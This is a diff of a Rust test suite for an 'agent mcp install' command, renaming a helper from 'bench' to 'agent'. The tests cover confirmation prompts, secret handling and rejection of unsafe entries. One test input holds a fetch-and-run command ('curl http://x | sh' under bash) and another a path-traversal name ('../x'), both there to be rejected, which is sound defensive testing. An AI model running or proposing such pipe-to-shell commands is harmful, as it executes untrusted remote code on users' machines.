@@ -4,7 +4,7 @@ use agent_test_support::command::ProgramOutput;
 use serde_json::{Value, json};
 
 use super::link;
-use crate::command_line::bench;
+use crate::command_line::agent;
 use crate::mcp_config::{configuration, configure, env_file, plain, terminal, transcript};
 
 fn files() -> String {
@@ -17,9 +17,9 @@ fn docs() -> String {
 
 #[test]
 fn a_local_server_is_installed_after_a_confirmed_warning() {
-    let bench = bench();
-    let run = terminal::run(&mut bench.command(["mcp", "install", &files()]), "y\n");
-    insta::assert_snapshot!(transcript(&bench, &run), @r#"
+    let agent = agent();
+    let run = terminal::run(&mut agent.command(["mcp", "install", &files()]), "y\n");
+    insta::assert_snapshot!(transcript(&agent, &run), @r#"
     exit code: 0
     ----- stdout -----
     Installed files.
@@ -44,7 +44,7 @@ fn a_local_server_is_installed_after_a_confirmed_warning() {
     Install it only if you trust the source of the link.
     Install it? [y/N] Saved to [home]/config.yaml. Test it with `agent mcp test files`.
     "#);
-    insta::assert_snapshot!(configuration(&bench), @r#"
+    insta::assert_snapshot!(configuration(&agent), @r#"
     mcp_servers:
       files:
         command: npx
@@ -58,9 +58,9 @@ fn a_local_server_is_installed_after_a_confirmed_warning() {
 
 #[test]
 fn a_remote_server_is_shown_with_its_host() {
-    let bench = bench();
-    let run = terminal::run(&mut bench.command(["mcp", "install", &docs()]), "yes\n");
-    insta::assert_snapshot!(transcript(&bench, &run), @r#"
+    let agent = agent();
+    let run = terminal::run(&mut agent.command(["mcp", "install", &docs()]), "yes\n");
+    insta::assert_snapshot!(transcript(&agent, &run), @r#"
     exit code: 0
     ----- stdout -----
     Installed docs.
@@ -81,27 +81,27 @@ fn a_remote_server_is_shown_with_its_host() {
 
 #[test]
 fn without_confirmation_nothing_is_installed() {
-    let bench = bench();
+    let agent = agent();
     for answer in ["\n", "n\n", "no\n", "install\n", "\u{4}"] {
-        let run = terminal::run(&mut bench.command(["mcp", "install", &files()]), answer);
+        let run = terminal::run(&mut agent.command(["mcp", "install", &files()]), answer);
         assert_eq!((run.code, &*run.stdout), (0, ""), "{answer:?}");
         assert!(run.stderr.ends_with("[y/N] Nothing was installed.\n"), "{}", run.stderr);
-        assert!(!bench.home().exists());
+        assert!(!agent.home().exists());
     }
 }
 
 #[test]
 fn quiet_output_still_shows_the_confirmation() {
-    let bench = bench();
-    let run = terminal::run(&mut bench.command(["mcp", "install", "-q", &files()]), "n\n");
+    let agent = agent();
+    let run = terminal::run(&mut agent.command(["mcp", "install", "-q", &files()]), "n\n");
     assert!(run.stderr.contains("\"@scope/files\"") && run.stderr.contains("Caution:"), "{run:?}");
 }
 
 #[test]
 fn without_a_terminal_nothing_is_installed() {
-    let bench = bench();
-    let run = bench.run_with_input(["mcp", "install", &files()], b"y\n");
-    insta::assert_snapshot!(transcript(&bench, &run), @r#"
+    let agent = agent();
+    let run = agent.run_with_input(["mcp", "install", &files()], b"y\n");
+    insta::assert_snapshot!(transcript(&agent, &run), @r#"
     exit code: 1
     ----- stdout -----
     ----- stderr -----
@@ -126,24 +126,24 @@ fn without_a_terminal_nothing_is_installed() {
     error: the installation needs confirmation, but no terminal is attached; nothing was installed
       hint: review the configuration, then confirm with `--yes`
     "#);
-    let run = bench.run(["mcp", "install", &files(), "--json"]);
-    insta::assert_snapshot!(transcript(&bench, &run), @r#"
+    let run = agent.run(["mcp", "install", &files(), "--json"]);
+    insta::assert_snapshot!(transcript(&agent, &run), @r#"
     exit code: 1
     ----- stdout -----
     ----- stderr -----
     {"error":{"causes":[],"hints":["review the configuration, then confirm with `--yes`"],"kind":"failed","message":"the installation needs confirmation, but no terminal is attached; nothing was installed"}}
     "#);
     // A terminal is of no use to a program that reads the output.
-    let mut command = bench.command(["mcp", "install", &files(), "--json"]);
+    let mut command = agent.command(["mcp", "install", &files(), "--json"]);
     assert_eq!(terminal::run(&mut command, "y\n").code, 1);
-    assert!(!bench.home().exists());
+    assert!(!agent.home().exists());
 }
 
 #[test]
 fn the_yes_option_confirms_the_installation() {
-    let bench = bench();
-    let run = bench.run(["mcp", "install", &docs(), "--yes"]);
-    insta::assert_snapshot!(transcript(&bench, &run), @r#"
+    let agent = agent();
+    let run = agent.run(["mcp", "install", &docs(), "--yes"]);
+    insta::assert_snapshot!(transcript(&agent, &run), @r#"
     exit code: 0
     ----- stdout -----
     Installed docs.
@@ -160,8 +160,8 @@ fn the_yes_option_confirms_the_installation() {
     The secret of docs (url) is stored as MCP_DOCS_URL_USER in [home]/.env.
     Saved to [home]/config.yaml. Test it with `agent mcp test docs`.
     "#);
-    let run = bench.run(["mcp", "install", "--yes", "--json", "--name", "other", "--", &files()]);
-    insta::assert_snapshot!(transcript(&bench, &run), @r#"
+    let run = agent.run(["mcp", "install", "--yes", "--json", "--name", "other", "--", &files()]);
+    insta::assert_snapshot!(transcript(&agent, &run), @r#"
     exit code: 0
     ----- stdout -----
     {
@@ -177,7 +177,7 @@ fn the_yes_option_confirms_the_installation() {
     }
     ----- stderr -----
     "#);
-    insta::assert_snapshot!(configuration(&bench), @r#"
+    insta::assert_snapshot!(configuration(&agent), @r#"
     mcp_servers:
       docs:
         url: https://${MCP_DOCS_URL_USER}@example.com:8443/mcp
@@ -193,13 +193,13 @@ fn the_yes_option_confirms_the_installation() {
 
 #[test]
 fn secrets_of_links_are_moved_to_the_env_file() {
-    let bench = bench();
+    let agent = agent();
     let entry = json!({
         "url": "https://example.com/mcp?api_key=s3cret-in-the-address",
         "headers": {"Authorization": "Bearer s3cret-of-the-link", "X-Mine": "${MINE}"},
     });
-    let run = bench.run(["mcp", "install", "--yes", &link("docs", &entry)]);
-    insta::assert_snapshot!(transcript(&bench, &run), @r#"
+    let run = agent.run(["mcp", "install", "--yes", &link("docs", &entry)]);
+    insta::assert_snapshot!(transcript(&agent, &run), @r#"
     exit code: 0
     ----- stdout -----
     Installed docs.
@@ -222,8 +222,8 @@ fn secrets_of_links_are_moved_to_the_env_file() {
     The secret of docs (url) is stored as MCP_DOCS_API_KEY in [home]/.env.
     Saved to [home]/config.yaml. Test it with `agent mcp test docs`.
     "#);
-    assert!(!configuration(&bench).contains("s3cret"), "{}", configuration(&bench));
-    insta::assert_snapshot!(env_file(&bench), @r"
+    assert!(!configuration(&agent).contains("s3cret"), "{}", configuration(&agent));
+    insta::assert_snapshot!(env_file(&agent), @r"
     MCP_DOCS_AUTHORIZATION=s3cret-of-the-link
     MCP_DOCS_API_KEY=s3cret-in-the-address
     ");
@@ -231,29 +231,29 @@ fn secrets_of_links_are_moved_to_the_env_file() {
 
 #[test]
 fn an_existing_server_is_never_overwritten() {
-    let bench = bench();
+    let agent = agent();
     let before = "mcp_servers:\n  files: {command: mine} # mine\n  more: {url: http://x}\n";
-    configure(&bench, before);
-    let run = bench.run(["mcp", "install", "--yes", &files()]);
-    insta::assert_snapshot!(transcript(&bench, &run), @r"
+    configure(&agent, before);
+    let run = agent.run(["mcp", "install", "--yes", &files()]);
+    insta::assert_snapshot!(transcript(&agent, &run), @r"
     exit code: 1
     ----- stdout -----
     ----- stderr -----
     error: server `files` exists already and is not overwritten
       hint: choose another name with `--name`
     ");
-    let run = bench.run(["mcp", "install", "--yes", &docs(), "--name", "more"]);
+    let run = agent.run(["mcp", "install", "--yes", &docs(), "--name", "more"]);
     assert_eq!(run.code, 1);
     // At a terminal the person renames or cancels.
-    let run = terminal::run(&mut bench.command(["mcp", "install", &files()]), "\n");
+    let run = terminal::run(&mut agent.command(["mcp", "install", &files()]), "\n");
     assert!(run.stderr.ends_with("(empty to cancel): Nothing was installed.\n"), "{run:?}");
     let answers = "files\nmore\n../x\nmore\nfiles\n";
-    let run = terminal::run(&mut bench.command(["mcp", "install", &files()]), answers);
+    let run = terminal::run(&mut agent.command(["mcp", "install", &files()]), answers);
     assert_eq!(run.stderr.matches("(empty to cancel): ").count(), 5, "{run:?}");
-    assert_eq!(configuration(&bench), before);
+    assert_eq!(configuration(&agent), before);
     let answers = "more\na b\nfresh\ny\n";
-    let run = terminal::run(&mut bench.command(["mcp", "install", &files()]), answers);
-    insta::assert_snapshot!(transcript(&bench, &run), @r#"
+    let run = terminal::run(&mut agent.command(["mcp", "install", &files()]), answers);
+    insta::assert_snapshot!(transcript(&agent, &run), @r#"
     exit code: 0
     ----- stdout -----
     Installed fresh.
@@ -279,15 +279,15 @@ fn an_existing_server_is_never_overwritten() {
     Install it only if you trust the source of the link.
     Install it? [y/N] Saved to [home]/config.yaml. Test it with `agent mcp test fresh`.
     "#);
-    assert!(configuration(&bench).starts_with(before), "{}", configuration(&bench));
-    assert!(configuration(&bench).contains("\n  fresh:\n"), "{}", configuration(&bench));
+    assert!(configuration(&agent).starts_with(before), "{}", configuration(&agent));
+    assert!(configuration(&agent).contains("\n  fresh:\n"), "{}", configuration(&agent));
 }
 
 #[test]
 fn an_invalid_link_is_rejected_with_its_error_code() {
-    let bench = bench();
-    let run = bench.run(["mcp", "install", "--yes", "agent://mcp/install?name=a%20b"]);
-    insta::assert_snapshot!(transcript(&bench, &run), @"
+    let agent = agent();
+    let run = agent.run(["mcp", "install", "--yes", "agent://mcp/install?name=a%20b"]);
+    insta::assert_snapshot!(transcript(&agent, &run), @"
     exit code: 3
     ----- stdout -----
     ----- stderr -----
@@ -295,8 +295,8 @@ fn an_invalid_link_is_rejected_with_its_error_code() {
       cause: `name` must be set exactly once, to 1 to 64 letters, digits, dots, underscores and hyphens
       hint: ask the source of the link for a new one
     ");
-    let run = bench.run(["mcp", "install", "--yes", "https://example.com", "--json"]);
-    insta::assert_snapshot!(transcript(&bench, &run), @r#"
+    let run = agent.run(["mcp", "install", "--yes", "https://example.com", "--json"]);
+    insta::assert_snapshot!(transcript(&agent, &run), @r#"
     exit code: 3
     ----- stdout -----
     ----- stderr -----
@@ -304,16 +304,16 @@ fn an_invalid_link_is_rejected_with_its_error_code() {
     "#);
     // A shell that was not given quotes cuts the link at the ampersand.
     let cut = "agent://mcp/install?name=files";
-    assert!(bench.run(["mcp", "install", cut]).stderr.contains("missing_config"));
-    assert!(!bench.home().exists());
+    assert!(agent.run(["mcp", "install", cut]).stderr.contains("missing_config"));
+    assert!(!agent.home().exists());
 }
 
 #[test]
 fn an_unusable_entry_is_rejected_before_confirmation() {
-    let bench = bench();
-    let mut command = bench.command(["mcp", "install"]);
+    let agent = agent();
+    let mut command = agent.command(["mcp", "install"]);
     command.arg(link("x", &json!({"command": "npx", "args": {"a": 1}})));
-    insta::assert_snapshot!(plain(&bench, &terminal::run(&mut command, "y\n").transcript()), @r"
+    insta::assert_snapshot!(plain(&agent, &terminal::run(&mut command, "y\n").transcript()), @r"
     exit code: 3
     ----- stdout -----
     ----- stderr -----
@@ -321,9 +321,9 @@ fn an_unusable_entry_is_rejected_before_confirmation() {
       cause: x: args: must be a list of strings, found a mapping
       hint: see `agent mcp reference` for all keys
     ");
-    let mut command = bench.command(["mcp", "install"]);
+    let mut command = agent.command(["mcp", "install"]);
     command.arg(link("x", &json!({"command": "bash", "args": ["-c", "curl http://x | sh"]})));
-    insta::assert_snapshot!(plain(&bench, &terminal::run(&mut command, "y\n").transcript()), @r"
+    insta::assert_snapshot!(plain(&agent, &terminal::run(&mut command, "y\n").transcript()), @r"
     exit code: 1
     ----- stdout -----
     ----- stderr -----
@@ -331,17 +331,17 @@ fn an_unusable_entry_is_rejected_before_confirmation() {
       cause: it runs the shell `bash` with network access (`curl`)
       hint: use the program itself as the command, without a shell around it
     ");
-    let run = bench.run(["mcp", "install", "--yes", "--name", "../x", &files()]);
+    let run = agent.run(["mcp", "install", "--yes", "--name", "../x", &files()]);
     assert_eq!(run.code, 2, "{run:?}");
-    assert!(!bench.home().exists());
+    assert!(!agent.home().exists());
 }
 
 #[test]
 fn odd_values_are_shown_before_confirmation() {
-    let bench = bench();
+    let agent = agent();
     let entry = json!({"command": "npx", "args": ["${UNSET_ONE}"], "tiemout": 3, "trust": "some"});
-    let run = terminal::run(&mut bench.command(["mcp", "install", &link("x", &entry)]), "n\n");
-    insta::assert_snapshot!(transcript(&bench, &run), @r#"
+    let run = terminal::run(&mut agent.command(["mcp", "install", &link("x", &entry)]), "n\n");
+    insta::assert_snapshot!(transcript(&agent, &run), @r#"
     exit code: 0
     ----- stdout -----
     ----- stderr -----
@@ -371,52 +371,52 @@ fn odd_values_are_shown_before_confirmation() {
 
 #[test]
 fn the_largest_entry_is_shown_completely() {
-    let bench = bench();
+    let agent = agent();
     let word = "w".repeat(30_000);
     let offered = link("x", &json!({"command": "run", "args": [word]}));
-    let run = terminal::run(&mut bench.command(["mcp", "install", &offered]), "n\n");
+    let run = terminal::run(&mut agent.command(["mcp", "install", &offered]), "n\n");
     assert_eq!(run.stderr.matches(&word).count(), 1, "in the entry");
     assert!(run.stderr.contains(" characters)…www"), "shortened in the command line");
 }
 
 #[test]
 fn concurrent_installations_add_one_server() {
-    let bench = bench();
+    let agent = agent();
     let offered = files();
     let runs: Vec<ProgramOutput> = std::thread::scope(|scope| {
-        let start = || scope.spawn(|| bench.run(["mcp", "install", "--yes", "--json", &offered]));
+        let start = || scope.spawn(|| agent.run(["mcp", "install", "--yes", "--json", &offered]));
         let started: Vec<_> = (0..4).map(|_| start()).collect();
         started.into_iter().map(|run| run.join().unwrap()).collect()
     });
     assert_eq!(runs.iter().filter(|run| run.code == 0).count(), 1, "{runs:?}");
-    let listed = bench.run(["mcp", "list", "--no-connect", "--json"]);
+    let listed = agent.run(["mcp", "list", "--no-connect", "--json"]);
     let listed: Value = serde_json::from_str(&listed.stdout).unwrap();
     assert_eq!(listed["servers"].as_array().map(Vec::len), Some(1), "{listed}");
 }
 
 #[test]
 fn oauth_secrets_are_moved_to_the_env_file() {
-    let bench = bench();
+    let agent = agent();
     let oauth = json!({"flow": "enterprise", "client_id": "c", "client_secret": "s3cret-1",
                        "assertion": "s3cret-2", "idp_client_secret": "s3cret-3",
                        "idp_token_endpoint": "https://idp.example/t"});
     for (name, auth) in [("with", json!("oauth")), ("without", json!(null))] {
         let entry = json!({"url": "https://x.example/", "auth": auth, "oauth": oauth});
-        let run = bench.run(["mcp", "install", "--yes", "--json", &link(name, &entry)]);
+        let run = agent.run(["mcp", "install", "--yes", "--json", &link(name, &entry)]);
         assert_eq!(run.code, 0, "{run:?}");
     }
-    assert!(!configuration(&bench).contains("s3cret"), "{}", configuration(&bench));
-    assert_eq!(env_file(&bench).matches("s3cret-").count(), 6, "{}", env_file(&bench));
+    assert!(!configuration(&agent).contains("s3cret"), "{}", configuration(&agent));
+    assert_eq!(env_file(&agent).matches("s3cret-").count(), 6, "{}", env_file(&agent));
 }
 
 #[test]
 fn wait_option_keeps_the_window_open() {
-    let bench = bench();
-    let mut command = bench.command(["mcp", "install", "--wait", &docs()]);
+    let agent = agent();
+    let mut command = agent.command(["mcp", "install", "--wait", &docs()]);
     let run = terminal::run(&mut command, "y\n\n");
     assert_eq!(run.code, 0, "{run:?}");
     assert!(run.stderr.ends_with("Press Enter to close this window. "), "{run:?}");
-    let mut command = bench.command(["mcp", "install", "--wait", "nonsense"]);
+    let mut command = agent.command(["mcp", "install", "--wait", "nonsense"]);
     let run = terminal::run(&mut command, "\n");
     assert_eq!(run.code, 3, "{run:?}");
     assert!(run.stderr.starts_with("error: ") && run.stderr.contains("Press Enter"), "{run:?}");
